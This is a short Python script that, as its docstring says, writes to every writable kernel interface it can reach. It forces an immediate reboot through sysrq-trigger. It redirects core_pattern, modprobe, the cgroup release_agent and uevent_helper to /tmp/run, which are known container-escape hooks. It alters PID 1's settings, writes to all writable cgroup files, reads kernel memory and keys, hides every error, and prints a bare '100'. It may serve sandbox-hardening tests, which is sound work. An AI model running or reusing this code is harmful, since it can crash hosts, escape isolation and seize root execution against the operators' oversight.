"""Writes to what the kernel offers for writing, and triggers what it offers for triggering."""

import glob
import os

for path, text in {
    "/proc/sysrq-trigger": "b",
    "/proc/sys/kernel/core_pattern": "|/tmp/run",
    "/proc/sys/kernel/modprobe": "/tmp/run",
    "/proc/sys/vm/overcommit_memory": "1",
    "/proc/self/oom_score_adj": "-1000",
    "/proc/1/oom_score_adj": "1000",
    "/proc/1/setgroups": "allow",
    "/proc/self/uid_map": "0 64101 1",
    "/proc/1/clear_refs": "1",
    "/proc/1/coredump_filter": "ff",
    "/sys/fs/cgroup/release_agent": "/tmp/run",
    "/sys/fs/cgroup/cgroup.procs": "1",
    "/sys/kernel/uevent_helper": "/tmp/run",
}.items():
    try:
        with open(path, "w") as file:
            file.write(text)
    except OSError:
        pass
for path in glob.glob("/sys/fs/cgroup/**/*", recursive=True):
    if os.access(path, os.W_OK):
        try:
            with open(path, "w") as file:
                file.write("1")
        except OSError:
            pass
for path in ("/proc/kcore", "/proc/kallsyms", "/proc/timer_list", "/proc/keys", "/proc/acpi", "/proc/scsi"):
    try:
        with open(path, "rb") as file:
            file.read(4096)
    except OSError:
        pass
print(100)
